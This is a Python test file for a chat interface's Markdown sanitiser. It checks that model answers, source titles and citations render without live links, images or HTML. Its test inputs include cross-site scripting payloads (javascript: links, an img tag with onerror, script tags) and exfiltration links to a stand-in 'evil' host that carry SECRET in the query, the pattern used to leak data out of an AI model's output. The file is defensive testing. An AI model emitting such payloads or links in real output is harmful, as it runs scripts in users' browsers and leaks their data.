"""Model output and document titles as Markdown that cannot become HTML, links or images.

The checks render with markdown-it (CommonMark, HTML enabled: the strictest case) and look
at the HTML it would produce.
"""

from __future__ import annotations

import html as html_lib
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from tests.ui.markdown_check import dangers
from xnai.domain.models import Citation
from xnai.ui.render import citation_markdown, escape_text, reading_line, safe_markdown

HOSTILE = [
    "[x](javascript:alert(1))",
    "![t](http://203.0.113.1/x.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<http://203.0.113.1/x>",
    "[1](javascript:alert(1))",
    "[1]\n\n[1]: javascript:alert(1)",
    "[a][r]\n\n[r]: http://203.0.113.1/",
    "\\[x\\](javascript:alert(1)) and \\<b\\>",
    "![t][i]\n\n[i]: http://203.0.113.1/x.png",
]

md = MarkdownIt("commonmark", {"html": True})
gfm = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def render(text: str) -> str:
    return md.render(text)


def render_gfm(text: str) -> str:
    return gfm.render(text)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def active(html: str) -> list[str]:
    """Tags and attributes in ``html`` that load, link or run anything."""
    parser = _Tags()
    parser.feed(html)
    bad = [tag for tag, _ in parser.found if tag in ("a", "img", "script", "iframe", "svg")]
    bad += [name for _, attrs in parser.found for name, _ in attrs]  # markdown sets none
    return bad


@pytest.mark.parametrize("payload", HOSTILE)
def test_safe_markdown_never_makes_links_images_or_html(payload: str) -> None:
    html = render(safe_markdown(f"Intro. {payload} Outro."))
    assert active(html) == [], html


@pytest.mark.parametrize("payload", HOSTILE)
def test_escape_text_renders_exactly_the_text(payload: str) -> None:
    html = render(escape_text(payload))
    assert active(html) == [], html
    assert _text_of(html) == payload.replace("\n\n", "\n")


def _text_of(html: str) -> str:
    """The text of markdown-it's paragraphs, one per line (entities decoded); web
    addresses are shown as code, so they are not links."""
    inner = re.sub(r"</p>\s*<p>", "\n", html.strip())
    inner = re.sub(r"</?code>", "", inner)
    return html_lib.unescape(re.sub(r"^<p>|</p>$", "", inner))


@pytest.mark.parametrize(
    "url", ["http://203.0.113.1/x.png", "https://example.org/a?b=c", "www.example.org/x"]
)
def test_bare_web_addresses_become_code_not_links(url: str) -> None:
    html = render(safe_markdown(f"See {url}, or ![t]({url})."))
    assert html.count(f"<code>{url}</code>") == 2
    assert "<a " not in html and "<img" not in html


def test_citation_markers_stay_plain_so_the_chat_can_link_them() -> None:
    text = "The pump runs at 1450 rpm [1] and is serviced yearly [2]."
    assert safe_markdown(text) == text


def test_formatting_and_code_survive() -> None:
    text = "Use **bold**, a list:\n\n- one\n- two\n\n```html\n<b>kept</b> [x](y)\n```\n`<i>` too"
    html = render(safe_markdown(text))
    assert "<strong>bold</strong>" in html
    assert "<li>one</li>" in html
    assert "&lt;b&gt;kept&lt;/b&gt; [x](y)" in html  # literal inside the fence
    assert "<code>&lt;i&gt;</code>" in html


def test_an_unclosed_fence_while_streaming_stays_code() -> None:
    partial = "Here:\n```\n<img src=x onerror=alert(1)>"
    html = render(safe_markdown(partial))
    assert active(html) == [] and "&lt;img" in html


def test_every_prefix_of_a_hostile_answer_is_safe() -> None:
    answer = "See [x](javascript:alert(1)) and ![t](http://203.0.113.1/x.png) [1]"
    for end in range(1, len(answer) + 1):
        assert active(render(safe_markdown(answer[:end]))) == [], answer[:end]


def test_a_source_element_shows_title_path_and_quote_as_text() -> None:
    citation = Citation(
        1,
        "d1",
        "c1",
        "<img src=x onerror=alert(1)>",
        "upload:evil_[x](y).md",
        10,
        42,
        0.9,
        "First line with <b>tags</b>\n\n[x](javascript:alert(1))",
    )
    html = render(citation_markdown(citation))
    assert active(html) == [] and "<b>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "upload:evil_[x](y).md, characters 10–42" in html
    assert "<hr />" in html and "First line with &lt;b&gt;tags&lt;/b&gt;" in html


def test_backticks_across_blocks_do_not_shield_a_link() -> None:
    # A backtick in a heading and one two lines down are not a code span: blocks end first.
    text = "# `\n[Verify](http://evil/?q=SECRET)\n`"
    out = safe_markdown(text)
    assert dangers(out) == [], out
    assert "<code>http://evil/?q=SECRET</code>" in render(out)  # the target, shown as text


def test_backtick_in_fence_info_does_not_shield_an_image() -> None:
    # A backtick fence's info string cannot hold a backtick, so this opens no fence.
    text = "```x`\n![i](http://evil/?q=S)"
    out = safe_markdown(text)
    assert dangers(out) == [], out
    assert "<img" not in render(out) and "i (<code>http://evil/?q=S</code>)" in render(out)


@pytest.mark.parametrize(
    "text",
    [
        "Go to http://203.0.113.1/x?q=SECRET now",
        "Mail admin@example.org today",
        "Visit www.example.org.",
    ],
)
def test_escaped_web_and_mail_addresses_do_not_become_links(text: str) -> None:
    # The chat links bare addresses in text even when their punctuation is escaped.
    assert dangers(escape_text(text)) == [], escape_text(text)
    assert dangers(safe_markdown(text)) == [], safe_markdown(text)
    assert dangers(citation_markdown(_citation(text))) == []


def test_relative_links_and_citations_survive() -> None:
    out = safe_markdown("See [the guide](../how-to/ingest.md#top) and [2].")
    assert '<a href="../how-to/ingest.md#top">the guide</a>' in render(out)
    assert out.endswith("[2].")


@pytest.mark.parametrize(
    "href", ["//203.0.113.1/x", "/\\203.0.113.1/x", "javascript:alert(1)", "HTTPS:x", "%2F%2Fe"]
)
def test_links_that_leave_the_server_show_their_target_as_text(href: str) -> None:
    out = safe_markdown(f"[click]({href})")
    assert dangers(out) == [], out
    assert "<a " not in render(out) and "click" in render(out)


def test_tables_and_strikethrough_survive_without_links() -> None:
    text = "| a | b |\n|:--|--:|\n| `x|y` | [t](http://e.org/) |\n\n~~old~~ new"
    html = render_gfm(safe_markdown(text))
    assert "<table>" in html and '<th style="text-align:left">a</th>' in html
    assert "<s>old</s>" in html and "<a " not in html


def _citation(text: str) -> Citation:
    return Citation(1, "d1", "c1", text, "upload:a.md", 0, len(text), 0.9, text)


@pytest.mark.parametrize("payload", HOSTILE)
def test_the_reading_line_shows_hostile_titles_as_text(payload: str) -> None:
    """The sources line shown before the answer streams renders each title as text."""
    first = Citation(1, "d1", "c1", payload, "upload:a.md", 0, 5, 0.9, "alpha")
    second = Citation(2, "d2", "c2", "Pumps", "upload:b.md", 0, 5, 0.8, "bravo")
    line = reading_line((first, second))
    html = render(line)
    assert active(html) == [], html
    assert html_lib.unescape(re.sub(r"<[^>]+>", "", html)).strip() == (
        f"Reading: [1] {' '.join(payload.split())}, [2] Pumps"
    )
    assert reading_line(()) == ""
